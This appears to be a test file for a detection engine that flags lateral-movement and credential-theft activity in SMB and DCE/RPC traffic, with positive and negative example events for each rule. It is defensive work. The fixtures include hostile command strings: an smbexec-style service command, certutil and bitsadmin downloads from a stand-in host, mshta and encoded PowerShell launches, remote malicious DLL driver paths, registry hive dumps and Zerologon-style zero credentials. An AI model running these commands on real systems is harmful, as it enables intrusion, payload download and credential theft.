/**
 * Detection table: sanity of the data, a positive and a negative event for every event rule,
 * the generic matcher, severity merging, and the shapes of the lab captures' DCE/RPC requests.
 */
import { describe, expect, it } from 'vitest';
import type { SmbEvent } from '../../src/events/event';
import {
  ALL_RULES, applyDetections, ATTACK_ID, compileMatch, DETECTION_RULES, DISCOVERY_RULE_IDS, interfaceKey, matches, STORY_RULES,
} from '../../src/detect/detections';
import { ev, hits, open, put, rpc, TARGET } from './events';

const CMD_SMBEXEC = '%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\execute.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\execute.bat & del %SYSTEMROOT%\\execute.bat';

/** every event rule: events that must hit it, and close calls that must not */
const EXAMPLES: Record<string, { pos: SmbEvent[]; neg: SmbEvent[] }> = {
  'SMB-ADMIN-SHARE-WRITE': {
    pos: [put('ADMIN$', 'svcupdate.exe'), put('C$', 'Windows\\Temp\\svcupdate.exe'), ev({ action: 'rename', share: '\\\\h\\ADMIN$', path: 'a.tmp', new_path: 'a.exe' })],
    neg: [put('docs', 'svcupdate.exe'), open('ADMIN$', 'svcupdate.exe'), put('ADMIN$', 'notes.txt')],
  },
  'SVC-CREATE': {
    pos: [rpc('svcctl', 'CreateServiceW', { service_name: 'x', binary_path: 'C:\\x.exe' }), rpc('svcctl', 'CreateServiceA'), rpc('367ABB81-9844-35F1-AD32-98F038001003', 'CreateServiceW')],
    neg: [rpc('svcctl', 'OpenServiceW'), rpc('svcctl', 'OpenSCManagerW'), rpc('atsvc', 'CreateServiceW')],
  },
  'SVC-MODIFY': {
    pos: [rpc('svcctl', 'ChangeServiceConfigW', { service_name: 'Spooler', binary_path: 'cmd /c calc' })],
    neg: [rpc('svcctl', 'ChangeServiceConfigW', { service_name: 'RemoteRegistry', start_type: 'SERVICE_DEMAND_START' }), rpc('svcctl', 'ChangeServiceConfigW', null)],
  },
  'SVC-START': {
    pos: [rpc('svcctl', 'StartServiceW', { service_name: 'PSEXESVC' }), rpc('svcctl', 'StartServiceA')],
    neg: [rpc('svcctl', 'ControlService'), rpc('svcctl', 'QueryServiceStatus')],
  },
  'SVC-SHELL-COMMAND': {
    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: CMD_SMBEXEC }), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Windows\\System32\\cmd.exe /c whoami' })],
    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: '%SystemRoot%\\PSEXESVC.exe' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Program Files\\cmdline tools\\agent.exe' }),
      rpc('svcctl', 'ChangeServiceConfigW', { binary_path: 'powershell -enc AAAA' })],
  },
  // each interpreter with its own technique (every one was T1059.003, cmd: found in review)
  'SVC-POWERSHELL-COMMAND': {
    pos: [rpc('svcctl', 'ChangeServiceConfigW', { binary_path: 'powershell -enc AAAA' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'powershell.exe -c Reset-ComputerMachinePassword' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'pwsh -File x.ps1' })],
    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Windows\\System32\\cmd.exe /c whoami' }), rpc('svcctl', 'StartServiceW', { binary_path: 'powershell -enc AAAA' })],
  },
  'SVC-SCRIPT-HOST-COMMAND': {
    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: 'wscript.exe C:\\Temp\\a.vbs' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'cscript //nologo x.js' })],
    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\scripts\\agent.exe' })],
  },
  'SVC-PROXY-COMMAND': {
    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: 'rundll32.exe C:\\Temp\\x.dll,Run' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'mshta http://x/a.hta' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'msiexec /q /i \\\\h\\s\\x.msi' })],
    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Program Files\\rundll\\svc.exe' })],
  },
  'SVC-TRANSFER-COMMAND': {
    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: 'certutil -urlcache -f http://x/a.exe a.exe' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'bitsadmin /transfer j http://x/a a' })],
    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\certs\\renew.exe' })],
  },
  'SVC-DISABLE': {
    pos: [rpc('svcctl', 'ChangeServiceConfigW', { handle: '00'.repeat(20), start_type: 'DISABLED' })],
    neg: [rpc('svcctl', 'ChangeServiceConfigW', { start_type: 'AUTO' }), rpc('svcctl', 'CreateServiceW', { start_type: 'DISABLED' })],
  },
  'PSEXEC-PSEXESVC': {
    pos: [put('ADMIN$', 'PSEXESVC.exe'), open('IPC$', 'PSEXESVC-WKS01-4242-stdin'), rpc('svcctl', 'CreateServiceW', { service_name: 'PSEXESVC', binary_path: '%SystemRoot%\\PSEXESVC.exe' })],
    neg: [open('IPC$', 'svcctl'), rpc('svcctl', 'CreateServiceW', { service_name: 'Other', binary_path: 'C:\\other.exe' })],
  },
  'PSEXEC-PIPE-SHAPE': {
    pos: [open('IPC$', 'MYSVC-WKS-01-4242-stdout'), open('IPC$', 'x-HOST-1-stderr')],
    neg: [open('IPC$', 'PSEXESVC-WKS01-4242-stdin'), open('data', 'MYSVC-WKS01-4242-stdout'), open('IPC$', 'stdout')],
  },
  'PSEXEC-PAEXEC': {
    pos: [put('ADMIN$', 'PAExec-4242-WKS01.exe'), open('IPC$', 'PAExec-4242-WKS01'), rpc('svcctl', 'CreateServiceW', { service_name: 'PAExec-4242-WKS01' })],
    neg: [put('ADMIN$', 'PsExec.exe'), open('IPC$', 'paex')],
  },
  'PSEXEC-REMCOM': {
    pos: [open('IPC$', 'RemCom_communicaton'), open('IPC$', 'RemCom_stdinAbCd1234'), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Windows\\RemComSvc.exe' })],
    neg: [open('IPC$', 'Remote_com'), open('IPC$', 'lsarpc')],
  },
  'PSEXEC-CSEXEC': {
    pos: [put('ADMIN$', 'csexecsvc.exe'), open('IPC$', 'csexecsvc-WKS01-1-stdin')],
    neg: [put('ADMIN$', 'csvexport.exe')],
  },
  'IMPACKET-PSEXEC': {
    pos: [put('ADMIN$', 'yRlahTjG.exe'), rpc('svcctl', 'CreateServiceW', { service_name: 'kXpQ', binary_path: '%systemroot%\\yRlahTjG.exe' })],
    neg: [put('ADMIN$', 'explorer.exe'), put('ADMIN$', 'PSEXESVC.exe'), put('ADMIN$', 'SetupApp.EXE'.toUpperCase()), put('ADMIN$', 'Temp\\yRlahTjG.exe'), put('ADMIN$', 'yRlahTjG1.exe'), open('ADMIN$', 'yRlahTjG.exe'),
      rpc('svcctl', 'CreateServiceW', { service_name: 'PSEXESVC', binary_path: '%SystemRoot%\\PSEXESVC.exe' })],
  },
  'IMPACKET-SMBEXEC': {
    pos: [rpc('svcctl', 'CreateServiceW', { service_name: 'BTOBTO', binary_path: CMD_SMBEXEC }), rpc('svcctl', 'CreateServiceW', { binary_path: 'cmd.exe /Q /c echo whoami ^> \\\\%COMPUTERNAME%\\C$\\__output 2^>^&1 > C:\\Windows\\xYz.bat' })],
    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'cmd.exe /c whoami' }), rpc('svcctl', 'StartServiceW', { binary_path: CMD_SMBEXEC })],
  },
  'IMPACKET-ATEXEC': {
    pos: [rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { task_path: '\\aBcDeFgH', command: 'cmd.exe', arguments: '/C whoami > %windir%\\Temp\\aBcDeFgH.tmp 2>&1' }),
      rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { command: 'cmd.exe', arguments: '/c ipconfig > \\\\10.0.0.5\\share\\out.txt' })],
    // atexec.py uses the Task Scheduler; an AT job redirecting its output is ATSVC-JOB-ADD (review)
    neg: [rpc('atsvc', 'JobAdd', { command: 'cmd /c ipconfig > \\\\10.0.0.5\\share\\out.txt' }),rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { task_path: '\\Update', command: 'C:\\Program Files\\app\\update.exe', arguments: '--quiet' }),
      rpc('ITaskSchedulerService', 'SchRpcRun', { arguments: '/C whoami > %windir%\\Temp\\aBcDeFgH.tmp 2>&1' })],
  },
  'IMPACKET-OUTPUT-FILE': {
    pos: [open('C$', '__output'), open('ADMIN$', 'Temp\\aBcDeFgH.tmp', { action: 'read' }), open('ADMIN$', '__1714557600.1234567'), open('C$', 'Windows\\Temp\\aBcDeFgH.tmp', { action: 'delete' }), open('ADMIN$', 'SYSTEM32\\aBcDeFgH.tmp', { action: 'read' })],
    neg: [open('docs', '__output'), open('ADMIN$', 'Temp\\setup.log'), open('C$', 'Users\\__output')],
  },
  'WMI-EXEC-METHOD': {
    pos: [rpc('IWbemServices', 'ExecMethod', null, { share: null, path: null, dst_port: 49670 }), rpc('9556dc99-828c-11cf-a37e-00aa003240c7', 'opnum 24', null, { share: null, path: null })],
    neg: [rpc('IWbemServices', 'ExecQuery'), rpc('svcctl', 'opnum 24')],
  },
  'ATSVC-JOB-ADD': { pos: [rpc('atsvc', 'JobAdd', { command: 'backup.cmd' })], neg: [rpc('atsvc', 'JobEnum')] },
  'TSCH-REGISTER-TASK': {
    pos: [rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { task_path: '\\x' }), rpc('TaskSchedulerService', 'SchRpcRegisterTask')],
    neg: [rpc('ITaskSchedulerService', 'SchRpcEnumTasks')],
  },
  'TSCH-RUN-TASK': {
    pos: [rpc('ITaskSchedulerService', 'SchRpcRun', { task_path: '\\x' }), rpc('ITaskSchedulerService', 'SchRpcEnableTask')],
    neg: [rpc('ITaskSchedulerService', 'SchRpcDelete'), rpc('ITaskSchedulerService', 'SchRpcGetLastRunInfo')],
  },
  'DRS-REPLICATION': {
    pos: [rpc('drsuapi', 'DsGetNCChanges', null, { share: null, path: null, dst_port: 49667 })],
    neg: [rpc('drsuapi', 'DsBind'), rpc('drsuapi', 'DsCrackNames')],
  },
  'EVENTLOG-CLEAR': {
    pos: [rpc('eventlog', 'ClearEventLogW', { backup_file: '' }), rpc('eventlog', 'ElfrClearELFW'), rpc('even6', 'EvtRpcClearLog'), rpc('f6beaff7-1e19-4fbb-9f8f-b89e2018337c', 'opnum 6')],
    neg: [rpc('eventlog', 'ReadEventLogW'), rpc('even6', 'opnum 5')],
  },
  'REMOTE-SHUTDOWN': {
    pos: [rpc('winreg', 'InitiateSystemShutdownEx'), rpc('initshutdown', 'Init'), rpc('WindowsShutdown', 'WsdrInitiateShutdown')],
    neg: [rpc('winreg', 'AbortSystemShutdown'), rpc('initshutdown', 'Abort')],
  },
  'SECLOGON-CREATE-PROCESS': { pos: [rpc('seclogon', 'SeclCreateProcessWithLogonW')], neg: [rpc('seclogon', 'opnum 7')] },
  'PRINT-MONITOR-INSTALL': {
    pos: [rpc('spoolss', 'AddMonitor'), rpc('spoolss', 'AddPrinterDriverEx'), rpc('iremotewinspool', 'winspool_AsyncAddPrintProcessor')],
    neg: [rpc('spoolss', 'EnumPrinters'), rpc('spoolss', 'AddJob')],
  },
  SECRETSDUMP: {
    pos: [rpc('winreg', 'SaveKey', { key: 'HKLM\\SAM' }), rpc('winreg', 'SaveKey', { key: 'SECURITY' }), rpc('winreg', 'OpenKey', { key: 'SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD' }),
      rpc('winreg', 'SaveKey', { handle: '00'.repeat(20), file: 'qWeRtYuI.tmp' }), rpc('winreg', 'OpenKey', { key: 'SAM' })],
    neg: [rpc('winreg', 'SaveKey', { key: 'SOFTWARE' }), rpc('winreg', 'SaveKey', { file: 'C:\\backup\\software.hiv' }),
      rpc('winreg', 'OpenKey', { key: 'SYSTEM\\CurrentControlSet\\Control\\Lsa' }), rpc('winreg', 'OpenKey', { key: 'SOFTWARE\\SAMSUNG' })],
  },
  'REG-SAVE-KEY': { pos: [rpc('winreg', 'SaveKey', { key: 'SOFTWARE' }), rpc('winreg', 'SaveKeyEx')], neg: [rpc('winreg', 'QueryValue')] },
  'REG-RUN-KEY-WRITE': {
    pos: [rpc('winreg', 'SetValue', { key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'Osa32' }), rpc('winreg', 'CreateKey', { key: 'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce' }),
      rpc('winreg', 'SetValue', { key: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run' })],
    neg: [rpc('winreg', 'SetValue', { key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunTime' }), rpc('winreg', 'OpenKey', { key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' }), rpc('winreg', 'SetValue')],
  },
  ZEROLOGON: {
    pos: [rpc('rpc_netlogon', 'NetrServerAuthenticate3', { client_credential: '0000000000000000', negotiate_flags: '0x212fffff' }, { share: null, path: null }),
      rpc('rpc_netlogon', 'NetrServerPasswordSet2', { authenticator_credential: '0000000000000000', new_password: 'all zeros' }, { share: null, path: null }),
      rpc('rpc_netlogon', 'NetrServerPasswordSet2', { authenticator_credential: '01edd22d7e4efce8', new_password: 'all zeros' })],
    neg: [rpc('rpc_netlogon', 'NetrServerAuthenticate3', { client_credential: '8a1b2c3d4e5f6071' }), rpc('rpc_netlogon', 'NetrServerPasswordSet2', { authenticator_credential: '01edd22d7e4efce8', new_password: 'set' }),
      rpc('rpc_netlogon', 'NetrServerReqChallenge', { client_challenge: '0000000000000000' })],
  },
  'DCOM-EXEC-CLASS': {
    pos: [rpc('isystemactivator', 'RemoteGetClassObject', { class: 'MMC20.Application' }, { share: null, path: null }), rpc('remact', 'RemoteActivation', { class: 'ShellBrowserWindow' }),
      rpc('000001a0-0000-0000-c000-000000000046', 'RemoteCreateInstance', { class: 'ShellWindows' })],
    neg: [rpc('isystemactivator', 'RemoteCreateInstance', { class: 'WbemLevel1Login (WMI)' }), rpc('isystemactivator', 'RemoteCreateInstance'), rpc('dispatch', 'Invoke', { class: 'MMC20.Application' })],
  },
  'DCOM-SHELL-COMMAND': {
    pos: [rpc('dispatch', 'Invoke', { strings: '"cmd", "/c hostname", "7"' }), rpc('dispatch', 'Invoke', { strings: '"C:\\Windows\\System32\\cmd.exe"' }), rpc('dispatch', 'Invoke', { strings: '"c:\\temp\\x.exe"' }),
      rpc('dispatch', 'GetIDsOfNames', { names: 'ExecuteShellCommand' })],
    neg: [rpc('dispatch', 'Invoke', { strings: '"Document"' }), rpc('dispatch', 'Invoke'), rpc('dispatch', 'GetIDsOfNames', { names: 'Document, ActiveView' }), rpc('dispatch', 'Invoke', { strings: '"cmdlet"' })],
  },
  'PRINT-DRIVER-REMOTE-DLL': {
    pos: [rpc('spoolss', 'AddPrinterDriverEx', { data_file: '\\\\ws02.cylera.lab\\security\\mimilib.dll' }), rpc('spoolss', 'RpcAddPrinterDriverEx', { config_file: '\\\\10.0.0.5\\share\\evil.dll' })],
    neg: [rpc('spoolss', 'AddPrinterDriverEx', { driver_path: 'C:\\Windows\\System32\\spool\\drivers\\x64\\3\\unidrv.dll' }), rpc('spoolss', 'AddMonitor', { dll: '\\\\h\\s\\m.dll' })],
  },
  'REG-REMOTE-WRITE': { pos: [rpc('winreg', 'SetValue'), rpc('winreg', 'CreateKey', { key: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run' })], neg: [rpc('winreg', 'OpenKey'), rpc('winreg', 'EnumKey')] },
  'DISCOVERY-NETWORK-CONFIG': { pos: [rpc('srvsvc', 'NetTransportEnum'), rpc('wkssvc', 'NetWkstaTransportEnum')], neg: [rpc('srvsvc', 'NetTransportAdd')] },
  'DISCOVERY-REMOTE-SYSTEM': { pos: [rpc('srvsvc', 'NetSrvGetInfo'), rpc('wkssvc', 'NetWkstaGetInfo')], neg: [rpc('srvsvc', 'NetSrvSetInfo')] },
  'DISCOVERY-OWNER-USER': { pos: [rpc('lsarpc', 'lsa_GetUserName'), rpc('samr', 'EnumDomains')], neg: [rpc('samr', 'Connect'), rpc('lsarpc', 'lsa_OpenPolicy2')] },
  'DISCOVERY-NETWORK-CONNECTIONS': { pos: [rpc('srvsvc', 'NetSessEnum'), rpc('srvsvc', 'NetConnEnum')], neg: [rpc('srvsvc', 'NetSessDel')] },
  'DISCOVERY-PERMISSION-GROUPS': { pos: [rpc('samr', 'GetGroupsForUser'), rpc('samr', 'GetAliasMembership'), rpc('lsarpc', 'lsa_EnumAccountRights')], neg: [rpc('samr', 'OpenGroup')] },
  'DISCOVERY-SYSTEM-INFO': { pos: [rpc('lsarpc', 'lsa_QueryInfoPolicy'), rpc('lsarpc', 'lsa_QueryInfoPolicy2')], neg: [rpc('lsarpc', 'lsa_SetInfoPolicy')] },
  'DISCOVERY-FILES': { pos: [rpc('srvsvc', 'NetFileEnum')], neg: [rpc('srvsvc', 'NetFileClose')] },
  'DISCOVERY-ACCOUNTS': {
    pos: [rpc('samr', 'EnumDomainUsers'), rpc('samr', 'QueryUserInfo2'), rpc('lsarpc', 'lsa_LookupSids'), rpc('lsarpc', 'lsa_LookupNames'), rpc('wkssvc', 'NetWkstaEnumUsers')],
    neg: [rpc('samr', 'Close'), rpc('samr', 'CreateUser2'), rpc('lsarpc', 'lsa_Close')],
  },
  'DISCOVERY-SYSTEM-TIME': { pos: [rpc('srvsvc', 'NetRemoteTOD')], neg: [rpc('srvsvc', 'NetPathType')] },
  'DISCOVERY-SHARES': { pos: [rpc('srvsvc', 'NetShareEnumAll'), rpc('srvsvc', 'NetShareGetInfo'), rpc('srvsvc', 'NetrShareEnum')], neg: [rpc('srvsvc', 'NetShareAdd'), rpc('wkssvc', 'NetShareEnumAll')] },
};

describe('rule table', () => {
  it('ids are unique, upper-case words, and every rule has a title, description and valid ATT&CK ids', () => {
    const ids = ALL_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of ALL_RULES) {
      expect(r.id, r.id).toMatch(/^[A-Z0-9]+(-[A-Z0-9]+)*$/);
      expect(r.title.length, r.id).toBeGreaterThan(5);
      expect(r.description.length, r.id).toBeGreaterThan(10);
      expect(r.attack.length, r.id).toBeGreaterThan(0);
      for (const t of r.attack) expect(t, r.id).toMatch(ATTACK_ID);
      expect(['info', 'low', 'medium', 'high'], r.id).toContain(r.severity);
    }
  });

  it('every event rule has positive and negative examples here; correlation rules have none', () => {
    const eventRules = DETECTION_RULES.filter((r) => r.match).map((r) => r.id).sort();
    expect(Object.keys(EXAMPLES).sort()).toEqual(eventRules);
    for (const r of STORY_RULES) expect(r.match, r.id).toBeNull();
    expect(DETECTION_RULES.find((r) => r.id === 'DISCOVERY-BURST')!.match).toBeNull();
  });

  it('story ids start with STORY-; discovery rules are low and map one technique each', () => {
    for (const r of STORY_RULES) expect(r.id).toMatch(/^STORY-/);
    expect(DISCOVERY_RULE_IDS).toHaveLength(10);
    const techniques = DISCOVERY_RULE_IDS.map((id) => DETECTION_RULES.find((r) => r.id === id)!).map((r) => { expect(r.severity).toBe('low'); return r.attack[0]; });
    expect(techniques.sort()).toEqual(['T1016', 'T1018', 'T1033', 'T1049', 'T1069', 'T1082', 'T1083', 'T1087', 'T1124', 'T1135']);
  });
});

describe.each(Object.entries(EXAMPLES))('%s', (id, { pos, neg }) => {
  it('fires on its positive examples', () => {
    expect(pos.length).toBeGreaterThan(0);
    for (const e of pos) expect(hits(structuredClone(e)), JSON.stringify([e.path, e.rpc_interface, e.rpc_operation, e.rpc_args])).toContain(id);
  });
  it('does not fire on its negative examples', () => {
    expect(neg.length).toBeGreaterThan(0);
    for (const e of neg) expect(hits(structuredClone(e)), JSON.stringify([e.path, e.rpc_interface, e.rpc_operation, e.rpc_args])).not.toContain(id);
  });
});

describe('matcher', () => {
  it('AND of fields; any_of needs one; none_of needs none', () => {
    const e = rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\a.exe' });
    expect(matches({ actions: ['rpc'], rpc_interface: ['SVCCTL'], rpc_operation: ['createservicew'] }, e)).toBe(true);
    expect(matches({ actions: ['create'], rpc_interface: ['svcctl'] }, e)).toBe(false);
    expect(matches({ any_of: [{ actions: ['create'] }, { rpc_operation: ['CreateServiceW'] }] }, e)).toBe(true);
    expect(matches({ any_of: [{ actions: ['create'] }, { actions: ['write'] }] }, e)).toBe(false);
    expect(matches({ actions: ['rpc'], none_of: [{ args: [{ keys: ['binary_path'], pattern: /a\.exe/ }] }] }, e)).toBe(false);
    expect(matches({}, e)).toBe(true);
  });

  it('args: a missing key or null rpc_args never matches; any listed key may match', () => {
    const m = { args: [{ keys: ['command', 'arguments'], pattern: /whoami/ }] };
    expect(matches(m, rpc('atsvc', 'JobAdd', null))).toBe(false);
    expect(matches(m, rpc('atsvc', 'JobAdd', { task_path: 'whoami' }))).toBe(false);
    expect(matches(m, rpc('atsvc', 'JobAdd', { arguments: '/c whoami' }))).toBe(true);
  });

  it('share is the last component of the UNC path; path of a rename is its new name', () => {
    expect(matches({ share: /^ADMIN\$$/i }, open('admin$', 'x'))).toBe(true);
    expect(matches({ share: /^ADMIN\$$/i }, ev({ share: null }))).toBe(false);
    const ren = ev({ action: 'rename', path: 'a.txt', new_path: 'b.exe' });
    expect(matches({ path: /\.exe$/ }, ren)).toBe(true);
    expect(matches({ path: /^a\.txt$/ }, ren)).toBe(false);
  });

  it('interface names and UUIDs map to one key', () => {
    expect(interfaceKey('ITaskSchedulerService')).toBe('tsch');
    expect(interfaceKey('86D35949-83C9-4044-B424-DB363231FD0C')).toBe('tsch');
    expect(interfaceKey('SVCCTL')).toBe('svcctl');
    expect(interfaceKey('0000-unknown')).toBe('0000-unknown');
    expect(interfaceKey(null)).toBe('');
  });

  it('compiled predicates give the same answers as matches()', () => {
    const m = DETECTION_RULES.find((r) => r.id === 'IMPACKET-PSEXEC')!.match!;
    const p = compileMatch(m);
    for (const e of [...EXAMPLES['IMPACKET-PSEXEC'].pos, ...EXAMPLES['IMPACKET-PSEXEC'].neg]) {
      const f = structuredClone(e);
      hits(f);
      expect(p(f)).toBe(matches(m, f));
    }
  });
});

describe('applyDetections', () => {
  it('adds rule ids once, merges ATT&CK ids without duplicates, severity is the highest', () => {
    const e = rpc('svcctl', 'CreateServiceW', { service_name: 'BTOBTO', binary_path: CMD_SMBEXEC });
    const out = applyDetections(e);
    expect(out).toBe(e);
    expect(e.rules).toEqual(['SVC-CREATE', 'SVC-SHELL-COMMAND', 'IMPACKET-SMBEXEC']);
    expect(e.attack).toEqual(['T1543.003', 'T1569.002', 'T1059.003']);
    expect(e.severity).toBe('high');
    applyDetections(e);
    expect(e.rules).toEqual(['SVC-CREATE', 'SVC-SHELL-COMMAND', 'IMPACKET-SMBEXEC']);
  });

  it('never lowers: a low discovery hit keeps a high flag severity, and keeps flag techniques', () => {
    const e = rpc('srvsvc', 'NetShareEnumAll', null, { severity: 'high', attack: ['T1569.002'], flags: ['IPC_SHARE'] });
    applyDetections(e);
    expect(e.severity).toBe('high');
    expect(e.attack).toEqual(['T1569.002', 'T1135']);
  });

  it('fires on the request whatever the status (Samba faults CreateServiceW in the lab)', () => {
    const e = rpc('svcctl', 'CreateServiceW', { service_name: 'PSEXESVC', binary_path: '%SystemRoot%\\PSEXESVC.exe' }, { status: 'nca_s_op_rng_error' });
    expect(hits(e)).toEqual(['SVC-CREATE', 'PSEXEC-PSEXESVC']);
    expect(hits(open('IPC$', 'PSEXESVC-WKS01-4242-stdin', { status: 'STATUS_OBJECT_NAME_NOT_FOUND' }))).toEqual(['PSEXEC-PSEXESVC']);
  });

  it('benign traffic stays without hits: file I/O on a share, pipe opens, samr Connect/Close', () => {
    for (const e of [put('docs', 'Projects\\Apollo\\minutes 2024-09-12.docx'), open('IPC$', 'srvsvc'), open('IPC$', 'svcctl'), rpc('samr', 'Connect'), rpc('samr', 'Close'),
      rpc('lsarpc', 'lsa_OpenPolicy2'), rpc('svcctl', 'OpenSCManagerW'), rpc('svcctl', 'CloseServiceHandle'), ev({ action: 'session_setup', share: null, path: null })]) {
      const f = structuredClone(e);
      expect(hits(f), `${f.path} ${f.rpc_operation}`).toEqual([]);
      expect(f.severity === 'info' || f.severity === 'medium').toBe(true);
    }
  });
});

/** the DCE/RPC requests tshark saw in the lab captures, as the RPC stage will name them */
describe('lab capture shapes (captures/*.truth.json)', () => {
  const pipe = (p: string, iface: string, op: string, args: Record<string, string> | null = null, status: string | null = null) =>
    rpc(iface, op, args, { path: p, share: '\\\\198.18.10.10\\IPC$', dst_ip: '198.18.10.10', src_ip: '198.18.10.21', status });

  it('06-impacket-psexec: srvsvc NetShareEnumAll, yRlahTjG.exe to ADMIN$, svcctl CreateServiceW (fault)', () => {
    expect(hits(pipe('srvsvc', 'srvsvc', 'NetShareEnumAll'))).toEqual(['DISCOVERY-SHARES']);
    expect(hits(put('ADMIN$', 'yRlahTjG.exe', { share: '\\\\198.18.10.10\\ADMIN$' }))).toEqual(['SMB-ADMIN-SHARE-WRITE', 'IMPACKET-PSEXEC']);
    expect(hits(pipe('svcctl', 'svcctl', 'OpenSCManagerW'))).toEqual([]);
    expect(hits(pipe('svcctl', 'svcctl', 'OpenServiceW'))).toEqual([]);
    expect(hits(pipe('svcctl', 'svcctl', 'CreateServiceW', { service_name: 'FxRq', binary_path: '%systemroot%\\yRlahTjG.exe' }, 'nca_s_op_rng_error')))
      .toEqual(['SVC-CREATE', 'IMPACKET-PSEXEC']);
  });

  it('08-smbexec-services: BTOBTO %COMSPEC% service and LabUpdater services.py create', () => {
    expect(hits(pipe('svcctl', 'svcctl', 'CreateServiceW', { service_name: 'BTOBTO', binary_path: CMD_SMBEXEC }, 'nca_s_op_rng_error')))
      .toEqual(['SVC-CREATE', 'SVC-SHELL-COMMAND', 'IMPACKET-SMBEXEC']);
    expect(hits(pipe('svcctl', 'svcctl', 'CreateServiceW', { service_name: 'LabUpdater', binary_path: 'C:\\Windows\\Temp\\svcupdate.exe' }))).toEqual(['SVC-CREATE']);
  });

  it('09-discovery: every request is low discovery or nothing', () => {
    const ops: [string, string][] = [['srvsvc', 'NetShareEnumAll'], ['srvsvc', 'NetSrvGetInfo'], ['wkssvc', 'NetWkstaGetInfo'], ['samr', 'Connect'], ['samr', 'EnumDomains'],
      ['samr', 'LookupDomain'], ['samr', 'OpenDomain'], ['samr', 'EnumDomainUsers'], ['samr', 'EnumDomainGroups'], ['samr', 'EnumDomainAliases'], ['samr', 'Close'],
      ['lsarpc', 'lsa_OpenPolicy2'], ['lsarpc', 'lsa_QueryInfoPolicy'], ['lsarpc', 'lsa_LookupSids'], ['lsarpc', 'lsa_Close'], ['samr', 'OpenUser'], ['samr', 'QueryUserInfo2'],
      ['lsarpc', 'lsa_QueryInfoPolicy2']];
    const hit = new Set<string>();
    for (const [i, o] of ops) {
      const e = detect2(pipe(i, i, o));
      expect(['info', 'low']).toContain(e.severity);
      e.rules.forEach((r) => hit.add(r));
    }
    expect([...hit].sort()).toEqual(['DISCOVERY-ACCOUNTS', 'DISCOVERY-OWNER-USER', 'DISCOVERY-REMOTE-SYSTEM', 'DISCOVERY-SHARES', 'DISCOVERY-SYSTEM-INFO']);
  });

  it('the target is taken from the event, not assumed', () => {
    expect(TARGET).toBe('10.0.0.12');
  });
});

function detect2(e: SmbEvent): SmbEvent {
  hits(e);
  return e;
}
